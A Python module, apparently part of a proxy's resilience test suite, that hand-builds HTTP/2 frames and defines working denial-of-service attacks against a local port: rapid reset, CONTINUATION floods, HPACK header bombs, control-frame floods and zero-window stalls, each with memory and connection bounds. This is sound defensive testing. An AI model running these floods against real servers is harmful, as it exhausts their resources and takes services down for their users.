"""Attacks over HTTP/2, with frames made by hand."""

import contextlib
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
# Long enough for a proxy to read what was sent.
SETTLE = 1.5


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value, index=False):
    """A field without compression; with `index` one that the peer has to remember."""
    return bytes([0x40 if index else 0]) + length(name) + name + length(value) + value


def length(text):
    if len(text) < 127:
        return bytes([len(text)])
    out, rest = b"\x7f", len(text) - 127
    while rest >= 128:
        out, rest = out + bytes([rest % 128 | 128]), rest // 128
    return out + bytes([rest])


def head(path, method=b"GET", more=b""):
    return (literal(b":method", method) + literal(b":scheme", b"http") + literal(b":authority", b"attack.example") +
            literal(b":path", path) + more)


def get(stream, path=b"/"):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, head(path))


def stream(turn):
    return 2 * turn + 1


@contextlib.contextmanager
def connection(port, settings=b""):
    with socket.create_connection(("127.0.0.1", port), timeout=20) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        yield sock


def flood(frames, turns, connections=10):
    """Sends what `frames` gives for each turn until the proxy takes no more of it, on one connection after another."""

    def run(port, origin):
        sent = 0
        for _ in range(connections):
            with connection(port) as sock, contextlib.suppress(OSError):
                for turn in range(0, turns, 50):
                    part = b"".join(frames(one) for one in range(turn, min(turn + 50, turns)))
                    sock.sendall(part)
                    sent += len(part)
                    drain(sock)
        time.sleep(SETTLE / 3)
        yield sent

    return run


def drain(sock):
    """Takes what there is, so that answers hold nothing up; raises at the end of the connection."""
    sock.setblocking(False)
    try:
        while True:
            if not sock.recv(1 << 16):
                raise ConnectionError("closed")
    except BlockingIOError:
        pass
    finally:
        sock.settimeout(20)


def held(bytes_of, count, settings=b""):
    """Opens connections, sends on each, and leaves them."""

    def run(port, origin):
        before, sent = origin.sent, 0
        with contextlib.ExitStack() as stack:
            for _ in range(count):
                sock = stack.enter_context(connection(port, settings))
                with contextlib.suppress(OSError):
                    sock.sendall(bytes_of)
                    sent += len(bytes_of)
            time.sleep(SETTLE)
            # What hosts sent for it counts: an attacker may have them, too.
            yield sent + origin.sent - before
        origin.hang_up()

    return run


def rapid_reset(turn):
    return get(stream(turn)) + frame(RST_STREAM, 0, stream(turn), CANCEL)


def made_you_reset(turn):
    return get(stream(turn)) + frame(WINDOW_UPDATE, 0, stream(turn), bytes(4))


def continuation(turn):
    if turn == 0:
        return frame(HEADERS, END_STREAM, 1, head(b"/"))
    return frame(CONTINUATION, 0, 1, literal(b"a" * 100, b"b" * 100))


def empty_data(turn):
    return frame(HEADERS, END_HEADERS, 1, head(b"/", b"POST")) if turn == 0 else frame(DATA, 0, 1)


REMEMBERED = b"\xbe"
LARGE = literal(b"x-bomb", b"y" * 4000, index=True) + REMEMBERED * 12_000
TINY = literal(b"a", b"", index=True) + REMEMBERED * 15_000
CRUMBS = literal(b"cookie", b"", index=True) + REMEMBERED * 15_000


def bomb(more):
    return frame(HEADERS, END_STREAM | END_HEADERS, 1, head(b"/", more=more)[:16_384])


NO_WINDOW = struct.pack(">HI", 4, 0)
LARGE_PAGES = b"".join(get(stream(turn), b"/large") for turn in range(50))
UPLOADS = b"".join(frame(HEADERS, END_HEADERS, stream(turn), head(b"/stall", b"POST")) for turn in range(20)) + b"".join(
    frame(DATA, 0, stream(turn % 20), b"x" * 16_000) for turn in range(4))
HALF_HEAD = frame(HEADERS, END_STREAM, 1, head(b"/")) + frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 15_000))

# name, title, how, and Attack's bounds.
ATTACKS = (
    ("h2-idle", "HTTP/2: 500 connections without a request", held(b"", 500),
     {"per_connection": 48, "connections": 500}),
    ("h2-rapid-reset", "HTTP/2: requests that are reset at once, 10 × 10,000", flood(rapid_reset, 10_000),
     {"memory": 10}),
    ("h2-made-you-reset", "HTTP/2: requests that the proxy has to reset, 10 × 10,000", flood(made_you_reset, 10_000),
     {"memory": 10}),
    ("h2-continuation", "HTTP/2: heads without an end, 10 × 10,000 frames", flood(continuation, 10_000), {"memory": 10}),
    ("h2-half-head", "HTTP/2: 200 connections with 15 kB of a head", held(HALF_HEAD, 200),
     {"memory": 10, "connections": 200}),
    ("h2-bomb-large", "HTTP/2: 100 heads of 16 kB that stand for 48 MB", held(bomb(LARGE), 100), {"memory": 10}),
    ("h2-bomb-tiny", "HTTP/2: 100 heads of 15,000 fields", held(bomb(TINY), 100), {"memory": 10}),
    ("h2-bomb-crumbs", "HTTP/2: 100 heads of 15,000 cookies", held(bomb(CRUMBS), 100), {"memory": 10}),
    ("h2-ping", "HTTP/2: PING, 10 × 100,000", flood(lambda turn: frame(PING, 0, 0, bytes(8)), 100_000), {"memory": 10}),
    ("h2-settings", "HTTP/2: SETTINGS, 10 × 100,000", flood(lambda turn: frame(SETTINGS, 0, 0), 100_000),
     {"memory": 10}),
    ("h2-empty-data", "HTTP/2: DATA without bytes, 10 × 100,000", flood(empty_data, 100_000), {"memory": 10}),
    ("h2-priority", "HTTP/2: PRIORITY, 10 × 100,000",
     flood(lambda turn: frame(PRIORITY, 0, stream(turn % 1000), bytes(5)), 100_000), {"memory": 10}),
    ("h2-no-window", "HTTP/2: 10 connections of 50 streams that ask for 100 MiB and take nothing",
     held(LARGE_PAGES, 10, NO_WINDOW), {"memory": 10, "connections": 10}),
    ("h2-stalled-upload", "HTTP/2: 20 connections of 20 uploads to a host that takes nothing", held(UPLOADS, 20),
     {"memory": 10, "connections": 20}),
)
